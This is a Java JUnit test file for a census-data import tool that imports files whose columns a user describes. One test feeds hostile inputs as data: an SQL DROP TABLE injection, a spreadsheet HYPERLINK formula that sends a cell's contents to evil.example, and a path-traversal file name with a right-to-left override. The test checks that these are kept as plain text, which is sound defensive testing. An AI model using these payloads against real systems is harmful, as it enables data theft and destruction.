package ca.lipworkbench.datasets.imports;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertInstanceOf;

import ca.lipworkbench.datasets.descriptor.RowForm.AreaColumns;
import ca.lipworkbench.datasets.descriptor.RowForm.AreaKind;
import ca.lipworkbench.datasets.descriptor.RowForm.NumberStyle;
import ca.lipworkbench.datasets.descriptor.RowForm.PeriodColumns;
import ca.lipworkbench.datasets.descriptor.RowForm.PeriodKind;
import ca.lipworkbench.datasets.descriptor.RowForm.Zeros;
import ca.lipworkbench.datasets.geography.Areas;
import ca.lipworkbench.datasets.imports.ColumnAnswers.Values;
import ca.lipworkbench.datasets.imports.FileColumns.Suggestion;
import ca.lipworkbench.datasets.imports.TestHome.Observed;
import ca.lipworkbench.engine.geography.GeographicLevel;
import ca.lipworkbench.engine.statistics.Additivity;
import ca.lipworkbench.engine.statistics.RoundingModel;
import ca.lipworkbench.engine.statistics.StatusSet;
import ca.lipworkbench.engine.table.Release;
import ca.lipworkbench.engine.table.TableName;
import ca.lipworkbench.engine.table.Unit;
import ca.lipworkbench.engine.text.BilingualText;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.SQLException;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.OptionalDouble;
import java.util.OptionalInt;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Files without a publisher's layout, whose columns a person describes; all are made up. */
class DescribedRowsTest {
  /** A profile of 2006 as a data program might export it: invented, for none was seen. */
  private static final String EXPORT =
      """
      Exported on a Monday
      Community;Province;Sex;Population;Median income ($)
      Dieppe;New Brunswick;Total;1 150;0
      Dieppe;New Brunswick;Female;600;12 345,5
      Langley;British Columbia;Total;n.d.;1,5
      """;

  @TempDir Path folder;
  private Described home = new Described(Path.of("unset"));
  private Path file = Path.of("unset");

  @BeforeEach
  void openHome() throws IOException {
    home = new Described(folder);
    file = folder.resolve("export.csv");
    Files.writeString(file, EXPORT);
  }

  private static ColumnAnswers answers(Map<String, String> named) {
    return new ColumnAnswers(
        new TableName("profile-2006"),
        BilingualText.of("Profile of 2006, invented", "Profil de 2006, inventé"),
        ';',
        NumberStyle.DECIMAL_COMMA,
        2,
        new AreaColumns(
            AreaKind.NAME,
            OptionalInt.of(1),
            OptionalInt.of(1),
            OptionalInt.of(2),
            "",
            Optional.of(GeographicLevel.CENSUS_SUBDIVISION),
            named),
        new PeriodColumns(PeriodKind.FIXED, List.of(), "2006"),
        List.of(3),
        OptionalInt.empty(),
        List.of(
            new Values(4, List.of(), Unit.PERSONS, Additivity.COUNT, RoundingModel.RR5, 0),
            new Values(5, List.of(), Unit.DOLLARS, Additivity.QUANTILE, RoundingModel.UNKNOWN, 0)),
        Map.of("n.d.", StatusSet.find("..").orElseThrow()),
        Zeros.SUPPRESSED_IN_AVERAGES);
  }

  private void describe(Map<String, String> named) {
    Describer.Outcome outcome =
        new Describer(Areas.shipped())
            .describe(file, "export.csv", answers(named), folder.resolve("scratch"));
    home.descriptors()
        .save(
            assertInstanceOf(Describer.Outcome.Drafted.class, outcome, outcome.toString())
                .descriptor());
  }

  @Test
  void columnsAreShownWithWhatTheyMayBe() {
    Describer.Look look =
        new Describer(Areas.shipped()).look(file, "export.csv", folder.resolve("scratch"));
    FileColumns seen = assertInstanceOf(Describer.Look.Seen.class, look).columns();
    assertEquals(';', seen.separator());
    assertEquals(2, seen.headerLine());
    assertEquals(
        List.of(
            Suggestion.AREA_NAME,
            Suggestion.CATEGORY,
            Suggestion.CATEGORY,
            Suggestion.CATEGORY,
            Suggestion.VALUE),
        seen.columns().stream().map(FileColumns.Column::suggestion).toList());
  }

  @Test
  void ambiguousNamesAreAskedAndThenSettled() throws SQLException {
    assertEquals(ImportReason.LAYOUT_UNKNOWN, home.load(file).messages().getFirst().reason());
    describe(Map.of());
    ImportOutcome asked = home.load(file);
    assertEquals(
        List.of(ImportReason.PLACE_AMBIGUOUS),
        asked.messages().stream().map(ImportMessage::reason).toList());
    assertEquals(5, asked.messages().getFirst().line().orElse(0));
    describe(Map.of("Langley", "2021A00055915001"));
    Map<String, Observed> stored = TestHome.observations(home.release(file));
    String dieppe = "2021A00051307045|2006|";
    assertEquals(
        Map.of(
            dieppe + "population|total",
            new Observed(OptionalDouble.of(1150), 0),
            // A median of zero is a suppressed one.
            dieppe + "median-income|total",
            new Observed(OptionalDouble.empty(), StatusSet.find("x").orElseThrow().bits()),
            dieppe + "population|female",
            new Observed(OptionalDouble.of(600), 0),
            dieppe + "median-income|female",
            new Observed(OptionalDouble.of(12_345.5), 0),
            "2021A00055915001|2006|population|total",
            new Observed(OptionalDouble.empty(), StatusSet.find("..").orElseThrow().bits()),
            "2021A00055915001|2006|median-income|total",
            new Observed(OptionalDouble.of(1.5), 0)),
        stored);
  }

  @Test
  void laterFileWithTheSameColumnsNeedsNoFurtherAnswer() throws IOException {
    describe(Map.of("Langley", "2021A00055915001"));
    home.release(file);
    Files.writeString(file, EXPORT.replace("Monday", "Tuesday").replace("600", "605"));
    assertEquals(2, home.release(file).number());
    Files.writeString(file, EXPORT.replace("Sex", "Gender"));
    assertEquals(ImportReason.LAYOUT_UNKNOWN, home.load(file).messages().getFirst().reason());
  }

  @Test
  void wordsThatAreMeantToDoHarmAreKeptAsWords() throws IOException, SQLException {
    String drop = "x'; DROP TABLE observations;--";
    String formula = "=HYPERLINK(\"\"http://evil.example/?\"\"&A1)";
    Files.writeString(
        file,
        "\"Area\",\"%s\",\"%s\",\"Value\"\r\n2021A00051307045,\"%s\",\"@SUM(1)\",5\r\n"
            .formatted(drop, drop, formula));
    ColumnAnswers answers =
        new ColumnAnswers(
            new TableName("hostile"),
            BilingualText.of(drop, drop),
            ',',
            NumberStyle.PLAIN,
            1,
            AreaColumns.dguid(1, OptionalInt.empty()),
            new PeriodColumns(PeriodKind.FIXED, List.of(), "2021"),
            List.of(2, 3),
            OptionalInt.empty(),
            List.of(
                new Values(
                    4, List.of(), Unit.NUMBER, Additivity.UNKNOWN, RoundingModel.UNKNOWN, 0)),
            Map.of(),
            Zeros.TRUE);
    Describer.Outcome outcome =
        new Describer(Areas.shipped())
            .describe(file, "../../a\u202Evsc.exe", answers, folder.resolve("scratch"));
    home.descriptors()
        .save(assertInstanceOf(Describer.Outcome.Drafted.class, outcome).descriptor());
    Release release = home.release(file);
    assertEquals(
        Map.of(
            "2021A00051307045|2021|value|hyperlink-http-evil-example-a1|sum-1",
            new Observed(OptionalDouble.of(5), 0)),
        TestHome.observations(release));
    assertEquals(
        List.of("=HYPERLINK(\"http://evil.example/?\"&A1)"),
        release.structure().dimensions().getFirst().codes().stream()
            .map(code -> code.name().english())
            .toList());
  }

  @Test
  void workbookIsDescribedLikeText() throws IOException, SQLException {
    String[][] cells = {{"Area", "Year", "People"}, {"2021A00051307045", "2021", "0.1"}};
    StringBuilder sheet = new StringBuilder("<worksheet><sheetData>");
    for (int row = 0; row < cells.length; row++) {
      sheet.append("<row r=\"%d\">".formatted(row + 1));
      for (int column = 0; column < 3; column++) {
        boolean number = row > 0 && column == 2;
        String text = number ? "0.10000000000000001" : cells[row][column];
        sheet.append(
            "<c r=\"%c%d\"%s><v>%s</v></c>"
                .formatted('A' + column, row + 1, number ? "" : " t=\"str\"", text));
      }
      sheet.append("</row>");
    }
    Files.write(file, Zips.workbook(sheet + "</sheetData></worksheet>", "<sst/>"));
    ColumnAnswers answers =
        new ColumnAnswers(
            new TableName("local"),
            BilingualText.of("Local", "Local"),
            '\t',
            NumberStyle.PLAIN,
            1,
            AreaColumns.dguid(1, OptionalInt.empty()),
            PeriodColumns.text(2),
            List.of(),
            OptionalInt.empty(),
            List.of(
                new Values(
                    3, List.of(), Unit.NUMBER, Additivity.UNKNOWN, RoundingModel.UNKNOWN, 1)),
            Map.of(),
            Zeros.TRUE);
    Describer.Outcome outcome =
        new Describer(Areas.shipped())
            .describe(file, "local.xlsx", answers, folder.resolve("scratch"));
    home.descriptors()
        .save(assertInstanceOf(Describer.Outcome.Drafted.class, outcome).descriptor());
    assertEquals(
        Map.of("2021A00051307045|2021|people", new Observed(OptionalDouble.of(0.1), 0)),
        TestHome.observations(home.release(file)));
  }
}
